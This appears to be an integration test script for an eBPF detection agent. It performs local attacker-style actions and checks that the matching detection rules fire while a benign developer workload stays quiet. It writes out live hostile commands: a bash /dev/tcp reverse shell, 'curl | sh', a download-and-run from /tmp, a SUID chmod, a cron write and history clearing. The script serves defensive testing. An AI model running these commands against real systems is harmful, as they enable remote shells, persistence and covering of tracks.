#!/bin/bash
# test_agent_rules.sh - local detection end to end: bannin-agent at tier 1 (eBPF) with
# Bannin's rules/linux, real attacker-style activity, and the local alerts (EventID 140)
# checked by rule title and attributed to this test's processes (agent/check_rules.py).
# Then a benign admin/developer workload must raise no alert of level medium or above.
#
# Attack steps (each against listeners and servers this test opens; nothing leaves the host):
#   - bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 (listener hangs up at once; timeout-bounded)
#   - exec 3<>/dev/tcp/<own non-loopback address>/PORT from bash (the shell's own outbound
#     connection; the network rule ignores loopback, as it should)
#   - curl -s http://<own address>:PORT/x.sh | sh against a local HTTP server serving
#     "echo hi" (the rule ignores 127.0.0.1/localhost, as it should)
#   - cp /bin/true to a temp dir and chmod u+s it
#   - /etc/cron.d/bannin-itest-$$ with a comment line only (removed by the trap)
#   - bash -c 'history -c' and bash -c 'unset HISTFILE'
#   - curl -o /tmp/bn-itest-dl-$$ (an ELF served locally), chmod +x, run it
# The steps needing a non-loopback IPv4 address are skipped with a message when there is none.
# Usage: test_agent_rules.sh BUILD_DIR (CTest passes it). KEEP=1 keeps the temp dir.
set -u
BUILD=${1:?build dir}
HERE=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
AGENT=$BUILD/bannin-agent
HELP=$HERE/agent/itest_helpers.py
CHECK=$HERE/agent/check_rules.py
skip() { echo "skip: $*"; exit 77; }
[ -x "$AGENT" ] || skip "$AGENT not built"
[ "$(id -u)" = 0 ] || skip "needs root (eBPF)"
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3) || skip "python3 missing"
command -v curl > /dev/null || skip "curl missing"
"$AGENT" --check 2>/dev/null | grep -q '^tier: bpf' || skip "tier 1 (eBPF) cannot run here"

WORK=$(mktemp -d /tmp/bn-agent-rules-XXXXXX)
CRON=/etc/cron.d/bannin-itest-$$
DL=/tmp/bn-itest-dl-$$
APID=
cleanup() {
    if [ -n "$APID" ]; then
        kill "$APID" 2>/dev/null
        wait "$APID" 2>/dev/null
    fi
    rm -f "$CRON" "$DL"
    [ -n "${KEEP:-}" ] || rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 1' INT TERM
fail() { echo "FAIL: $*"; exit 1; }
wait_port() {
    local i
    for i in $(seq 1 100); do [ -s "$1" ] && { cut -d' ' -f1 "$1"; return 0; }; sleep 0.05; done
    fail "no port in $1"
}

# The host's own first non-loopback IPv4 address, if any.
OWNIP=$(ip -4 -o addr show scope global 2>/dev/null | awk '{split($4, a, "/"); print a[1]; exit}')

OUT=$WORK/events.ndjson
FACTS=$WORK/facts.jsonl
cat > "$WORK/agent.yml" <<CONF
files:
  include: $WORK, /etc/cron.d
limits:
  cpu_percent: 800
  bulk_per_sec: 0
CONF
BANNIN_RULES=$ROOT/rules/linux timeout -k 5 120 "$AGENT" --config "$WORK/agent.yml" --tier bpf \
    --stdout --duration 90 > "$OUT" 2> "$OUT.err" &
APID=$!
for i in $(seq 1 150); do
    grep -q '"status":"started"' "$OUT" 2>/dev/null && break
    kill -0 "$APID" 2>/dev/null || { cat "$OUT.err"; fail "agent exited before starting"; }
    sleep 0.1
done
grep -q '"status":"started"' "$OUT" || fail "agent did not start within 15 s"
sleep 0.5

# ---- attack phase: everything below runs in a subshell whose pid names the phase ----
(
    set -u
    ap=$BASHPID
    kids=()
    trap 'kill "${kids[@]}" 2>/dev/null' EXIT
    mkdir -p "$WORK/www"
    echo "echo hi" > "$WORK/www/x.sh"
    cp /bin/true "$WORK/www/payload"

    # reverse shell to loopback; the listener hangs up at once
    "$PY" "$HELP" accept-close "$WORK/lport" 127.0.0.1 30 &
    kids+=($!)
    lport=$(wait_port "$WORK/lport")
    timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$lport 0>&1" < /dev/null > /dev/null 2>&1
    want=("Reverse Shell Via Bash /dev/tcp Redirection|/dev/tcp/127.0.0.1/$lport")

    if [ -n "$OWNIP" ]; then
        "$PY" "$HELP" accept-close "$WORK/oport" "$OWNIP" 30 &
        kids+=($!)
        oport=$(wait_port "$WORK/oport")
        timeout 5 bash -c "exec 3<>/dev/tcp/$OWNIP/$oport; echo id >&3" > /dev/null 2>&1
        want+=("Network Connection Initiated By A Shell|\"DestinationPort\":$oport")

        "$PY" "$HELP" http-serve "$WORK/www" "$WORK/hport" "$OWNIP" 30 &
        kids+=($!)
        hport=$(wait_port "$WORK/hport")
        url=http://$OWNIP:$hport
        got=$(timeout 10 sh -c "curl -s $url/x.sh | sh")
        [ "$got" = hi ] || echo "warning: curl | sh printed '$got'"
        want+=("Remote Script Downloaded And Piped To A Shell|curl -s $url/x.sh | sh")

        # download and execute from /tmp
        timeout 10 curl -s -o "$DL" "$url/payload" || echo "warning: download failed"
        chmod +x "$DL"
        "$DL" || echo "warning: payload failed"
        want+=("Download Into A Temporary Directory Via Curl Or Wget|-o $DL $url/payload"
               "File Made Executable In A Temporary Directory|chmod +x $DL"
               "Process Executed From A Temporary Directory|\"Image\":\"$DL\"")
    else
        echo "note: no non-loopback IPv4 address: shell-outbound, curl|sh and download steps skipped"
    fi

    # new SUID binary
    cp /bin/true "$WORK/suid-true"
    chmod u+s "$WORK/suid-true"
    want+=("SUID Or SGID Bit Set With Chmod|chmod u+s $WORK/suid-true")

    # cron persistence (comment only)
    echo "# bannin integration test $$ - no schedule" > "$CRON"
    want+=("Cron File Written By An Unexpected Process|\"TargetFilename\":\"$CRON\"")

    # history clearing, two forms
    bash -c 'history -c'
    bash -c 'unset HISTFILE'
    want+=("Shell History Cleared Or Disabled|history -c" "Shell History Cleared Or Disabled|unset HISTFILE")

    # facts: title|text pairs -> JSON (python does the quoting)
    printf '%s\n' "${want[@]}" | "$PY" -c 'import json, sys
print(json.dumps({"what": "attack", "pid": int(sys.argv[1]),
                  "want": [l.rstrip("\n").split("|", 1) for l in sys.stdin]}))' "$ap" >> "$FACTS"
)
rm -f "$CRON" "$DL"
sleep 0.5

# ---- benign phase: developer and admin routine ----
(
    bp=$BASHPID
    cd "$WORK" || exit 1
    printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' > hello.c
    gcc -O2 -o hello hello.c || echo "warning: gcc failed"
    dpkg -l | head > /dev/null
    apt-cache policy bash > /dev/null
    ls -la /etc > /dev/null
    cat /etc/hostname > /dev/null
    if command -v crontab > /dev/null; then
        crontab -l > /dev/null 2>&1
    else
        echo "note: crontab not installed: crontab -l step skipped"
    fi
    printf '{"what":"benign","pid":%d}\n' "$bp" >> "$FACTS"
)

sleep 1.5
kill -TERM "$APID"
rc=0
wait "$APID" || rc=$?
APID=
[ "$rc" = 0 ] || { tail -20 "$OUT.err"; fail "agent exited with status $rc"; }
"$PY" "$CHECK" "$OUT" "$FACTS" || fail "alerts do not match"
echo "PASS: local alerts for the attack steps, none of medium or above for the benign workload"
